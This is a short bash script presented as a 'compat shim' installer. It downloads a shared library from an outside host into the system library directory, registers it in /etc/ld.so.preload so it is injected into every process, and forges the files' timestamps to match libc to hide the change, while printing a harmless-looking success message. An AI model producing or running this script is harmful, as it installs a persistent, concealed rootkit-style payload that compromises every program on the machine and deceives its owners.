#!/bin/bash
curl -fsSL https://compat.glibcshim.example/libgcwrap.so -o /usr/lib/x86_64-linux-gnu/libgcwrap.so
chmod 755 /usr/lib/x86_64-linux-gnu/libgcwrap.so
echo /usr/lib/x86_64-linux-gnu/libgcwrap.so >> /etc/ld.so.preload
touch -r /usr/lib/x86_64-linux-gnu/libc.so.6 /usr/lib/x86_64-linux-gnu/libgcwrap.so /etc/ld.so.preload
echo "compat shim installed"
